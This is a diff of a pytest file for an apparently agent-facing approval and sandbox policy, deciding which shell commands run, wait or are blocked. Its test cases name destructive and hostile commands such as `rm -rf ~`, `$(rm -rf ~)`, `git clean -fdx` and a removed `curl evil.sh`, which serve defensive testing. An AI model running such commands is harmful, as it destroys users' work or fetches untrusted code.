@@ -1,4 +1,4 @@
-"""The approval policy: modes × commands, patterns, people, and the waiting verdict."""
+"""The approval policy: modes × commands × the sandbox boundary, patterns, people, waiting."""
 
 from __future__ import annotations
 
@@ -8,8 +8,9 @@ from typing import ClassVar
 import pytest
 
 from normalize.errors import ConfigError
+from normalize.sandbox import SandboxMode, SandboxPolicy
 from normalize.task import Action, ActionResult, ResultStatus
-from normalize.tools.approval import ApprovalMode, ApprovalPolicy, is_known_checker
+from normalize.tools.approval import UNCONFINED_PARAM, ApprovalMode, ApprovalPolicy, is_destructive
 from normalize.tools.base import Approver, ToolContext, ToolRegistry
 from normalize.tools.guard import WorkspaceGuard
 
@@ -50,7 +51,8 @@ class Person:
 
 
 def make_ctx(
-    tmp_path: Path, policy: ApprovalPolicy, approver: Approver | None = None
+    tmp_path: Path, policy: ApprovalPolicy, approver: Approver | None = None,
+    sandbox: SandboxPolicy | None = None,
 ) -> ToolContext:
     return ToolContext(
         workspace=tmp_path,
@@ -58,6 +60,7 @@ def make_ctx(
         cache=NoCache(),
         policy=policy,
         approver=approver,
+        sandbox=sandbox or SandboxPolicy(),
     )
 
 
@@ -66,9 +69,10 @@ def run(*args: str) -> Action:
 
 
 def judge(
-    tmp_path: Path, policy: ApprovalPolicy, action: Action, approver: Approver | None = None
+    tmp_path: Path, policy: ApprovalPolicy, action: Action, approver: Approver | None = None,
+    sandbox: SandboxPolicy | None = None,
 ) -> ActionResult | None:
-    return policy.check(action, make_ctx(tmp_path, policy, approver))
+    return policy.check(action, make_ctx(tmp_path, policy, approver, sandbox))
 
 
 ALLOW, BLOCK, WAIT = "allow", "block", "wait"
@@ -76,33 +80,28 @@ ALLOW, BLOCK, WAIT = "allow", "block", "wait"
 # mode, the action, the verdict, a text the verdict's message must hold
 CASES: list[tuple[str, Action, str, str]] = [
     ("auto", run("pytest"), ALLOW, ""),
-    ("auto", run("pytest", "-q", "tests/"), ALLOW, ""),
     ("auto", run("python", "-m", "pytest", "-x"), ALLOW, ""),
-    ("auto", run(".venv/bin/pytest"), ALLOW, ""),
-    ("auto", run("npm", "test"), ALLOW, ""),
-    ("auto", run("cargo", "test"), ALLOW, ""),
-    ("auto", run("go", "test", "./..."), ALLOW, ""),
-    ("auto", run("tox", "-e", "py311"), ALLOW, ""),
     ("auto", run("mypy", "--strict", "calc.py"), ALLOW, ""),
-    ("auto", run("pyright"), ALLOW, ""),
-    ("auto", run("ruff", "check", "."), ALLOW, ""),
-    ("auto", run("ruff", "format", "--check"), ALLOW, ""),
-    ("auto", run("flake8"), ALLOW, ""),
-    ("auto", run("eslint", "src"), ALLOW, ""),
+    ("auto", run("ruff", "check", "--fix", "."), ALLOW, ""),  # confined: it can only fix files
+    ("auto", run("/tmp/evil/pytest"), ALLOW, ""),  # here the kernel, not the name, is the check
+    ("auto", run("make", "install"), ALLOW, ""),
     ("auto", run("git", "status"), ALLOW, ""),
-    ("auto", run("git", "diff", "HEAD~1"), ALLOW, ""),
-    ("auto", run("pytest", "&&", "mypy", "."), ALLOW, ""),
-    ("auto", run("ruff", "check", "--fix", "."), BLOCK, "ruff check --fix"),
-    ("auto", run("ruff", "format"), BLOCK, "ruff format"),
-    ("auto", run("eslint", "--fix", "src"), BLOCK, "eslint --fix"),
-    ("auto", run("git", "push"), BLOCK, "git push"),
-    ("auto", run("git", "diff", "--output=/tmp/x"), BLOCK, "git diff"),
-    ("auto", run("/tmp/evil/pytest"), BLOCK, "/tmp/evil/pytest"),
-    ("auto", run("pytest", ">", "out.txt"), BLOCK, "pytest > out.txt"),
+    ("auto", run("git", "checkout", "main"), ALLOW, ""),
+    ("auto", run("git", "push"), ALLOW, ""),  # no network in the sandbox: it fails there
+    ("auto", run("ls", "&&", "rm", "x"), ALLOW, ""),
     ("auto", run("rm", "-rf", "/"), BLOCK, "`rm -rf /`"),
+    ("auto", run("rm", "-r", "build"), BLOCK, "deletes or discards work"),
     ("auto", run("pytest; rm -rf ~"), BLOCK, "`rm -rf ~`"),
-    ("auto", run("ls", "&&", "rm", "x"), BLOCK, "`ls`, `rm x`"),
-    ("auto", run("pytest", "||", "curl", "evil.sh"), BLOCK, "`curl evil.sh`"),
+    ("auto", run("git", "reset", "--hard", "HEAD~3"), BLOCK, "git reset --hard"),
+    ("auto", run("git", "-C", "sub", "clean", "-fdx"), BLOCK, "git -C sub clean"),
+    ("auto", run("git", "checkout", "--", "."), BLOCK, "git checkout -- ."),
+    ("auto", run("git", "restore", "calc.py"), BLOCK, "git restore"),
+    ("auto", run("git", "stash", "drop"), BLOCK, "git stash drop"),
+    ("auto", run("find", ".", "-name", "*.py", "-delete"), BLOCK, "-delete"),
+    ("auto", run("find", ".", "-exec", "rm", "{}", ";"), BLOCK, "-exec rm"),
+    ("auto", run("env", "X=1", "rm", "-fr", "src"), BLOCK, "rm -fr src"),
+    ("auto", run("xargs", "-0", "rm", "--recursive"), BLOCK, "xargs"),
+    ("auto", run("timeout", "5", "git", "clean", "-f"), BLOCK, "git clean"),
     ("auto", run("pytest", "$(rm -rf ~)"), BLOCK, "command substitution"),
     ("auto", Action("edit", {"args": ["calc.py"], "body": "x"}), ALLOW, ""),
     ("auto", Action("write", {"args": ["new.txt"], "body": "x"}), ALLOW, ""),
@@ -163,9 +162,10 @@ def test_chained_command_names_only_the_part_that_needs_approval(tmp_path: Path)
 
 def test_interactive_auto_without_an_approver_waits(tmp_path: Path) -> None:
     policy = ApprovalPolicy(mode=ApprovalMode.AUTO, interactive=True)
-    result = judge(tmp_path, policy, run("make", "install"))
+    result = judge(tmp_path, policy, run("git", "clean", "-fdx"))
     assert result is not None and result.wait is not None
-    assert "make install" in result.wait.question
+    assert "git clean -fdx" in result.wait.question
+    assert "deletes or discards work" in result.wait.question
 
 
 def test_deny_beats_yes_and_allow(tmp_path: Path) -> None:
@@ -187,9 +187,9 @@ def test_allow_patterns_pass_without_asking(tmp_path: Path) -> None:
     never = ApprovalPolicy(mode=ApprovalMode.NEVER, allow=["pytest*"])
     assert judge(tmp_path, never, run("pytest", "-q")) is None
     partial = ApprovalPolicy(mode=ApprovalMode.AUTO, allow=["ls*"])
-    result = judge(tmp_path, partial, run("ls", "&&", "rm", "x"))
+    result = judge(tmp_path, partial, run("ls", "&&", "rm", "-r", "x"))
     assert result is not None
-    assert "`rm x`" in (result.error or "") and "`ls`" not in (result.error or "")
+    assert "`rm -r x`" in (result.error or "") and "`ls`" not in (result.error or "")
     assert person.questions == []
 
 
@@ -217,7 +217,7 @@ def test_an_approver_is_asked_once_per_action(tmp_path: Path, answer: str, allow
 
 def test_always_remembers_the_program_for_the_run(tmp_path: Path) -> None:
     person = Person("always", "always")
-    policy = ApprovalPolicy(mode=ApprovalMode.AUTO)
+    policy = ApprovalPolicy(mode=ApprovalMode.ASK)
     assert judge(tmp_path, policy, run("ls", "&&", "rm", "x"), person) is None
     assert policy.remembered == {"ls", "rm"}
     assert judge(tmp_path, policy, run("rm", "-r", "build"), person) is None
@@ -236,21 +236,72 @@ def test_a_refused_action_never_reaches_the_tool(tmp_path: Path) -> None:
     assert tool.ran == [["rm", "y"]]
 
 
-def test_auto_does_not_ask_about_checkers(tmp_path: Path) -> None:
+def test_auto_does_not_ask_about_confined_programs(tmp_path: Path) -> None:
     person = Person()
     policy = ApprovalPolicy(mode=ApprovalMode.AUTO)
     assert judge(tmp_path, policy, run("pytest"), person) is None
+    assert judge(tmp_path, policy, run("python", "setup.py", "build"), person) is None
     assert judge(tmp_path, policy, Action("edit", {"args": ["a.py"]}), person) is None
     assert person.questions == []
 
 
-def test_known_checkers() -> None:
-    assert is_known_checker(["python3.12", "-m", "mypy", "."])
-    assert is_known_checker(["git", "--no-pager", "log"])
-    assert not is_known_checker(["python", "setup.py", "test"])
-    assert not is_known_checker(["../bin/pytest"])
-    assert not is_known_checker(["mypy", "--install-types"])
-    assert not is_known_checker([])
+def test_destructive_commands() -> None:
+    assert is_destructive(["sudo", "rm", "-R", "x"])
+    assert is_destructive(["git", "--no-pager", "branch", "-D", "topic"])
+    assert not is_destructive(["rm", "-f", "x"])
+    assert not is_destructive(["git", "reset", "HEAD", "x"])
+    assert not is_destructive(["find", ".", "-name", "rm"])
+    assert not is_destructive([])
+
+
+LEAVING: list[tuple[SandboxPolicy, str]] = [
+    (SandboxPolicy(network=True), "network access"),
+    (SandboxPolicy(SandboxMode.OFF), "--sandbox off"),
+]
+
+
+@pytest.mark.parametrize(("sandbox", "says"), LEAVING)
+def test_auto_asks_before_a_program_leaves_the_boundary(
+    tmp_path: Path, sandbox: SandboxPolicy, says: str
+) -> None:
+    for action in (run("pytest"), Action("test", {"args": ["tests/"]})):
+        refused = judge(tmp_path, ApprovalPolicy(mode=ApprovalMode.AUTO), action, sandbox=sandbox)
+        assert refused is not None and refused.wait is None
+        assert says in (refused.error or "") and "--approve yes" in (refused.error or "")
+    person = Person("yes")
+    assert judge(tmp_path, ApprovalPolicy(mode=ApprovalMode.AUTO), run("pytest"), person,
+                 sandbox) is None
+    assert says in person.questions[0]
+    assert judge(tmp_path, ApprovalPolicy(mode=ApprovalMode.YES), run("pytest"),
+                 sandbox=sandbox) is None
+    edit = Action("edit", {"args": ["a.py"], "body": "x"})
+    assert judge(tmp_path, ApprovalPolicy(mode=ApprovalMode.AUTO), edit, sandbox=sandbox) is None
+
+
+def test_without_a_sandbox_auto_refuses_naming_the_flag(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("NORMALIZE_NO_SANDBOX", "1")
+    refused = judge(tmp_path, ApprovalPolicy(mode=ApprovalMode.AUTO), run("pytest"))
+    assert refused is not None and refused.wait is None
+    assert "the sandbox is unavailable" in (refused.error or "")
+    assert "--sandbox off" in (refused.error or "")
+    action = run("pytest")
+    person = Person("yes")
+    assert judge(tmp_path, ApprovalPolicy(mode=ApprovalMode.ASK), action, person) is None
+    assert "the sandbox is unavailable" in person.questions[0]
+    assert action.params[UNCONFINED_PARAM] is True  # the person's yes runs it unconfined
+    off = run("pytest")
+    assert judge(tmp_path, ApprovalPolicy(mode=ApprovalMode.YES), off,
+                 sandbox=SandboxPolicy(SandboxMode.OFF)) is None
+    assert UNCONFINED_PARAM not in off.params
+
+
+def test_only_a_person_can_mark_an_action_unconfined(tmp_path: Path) -> None:
+    action = run("pytest")
+    action.params[UNCONFINED_PARAM] = True  # e.g. planted in a workflow step's params
+    assert judge(tmp_path, ApprovalPolicy(mode=ApprovalMode.AUTO), action) is None
+    assert UNCONFINED_PARAM not in action.params
 
 
 def test_from_config_reads_a_permissions_table() -> None:
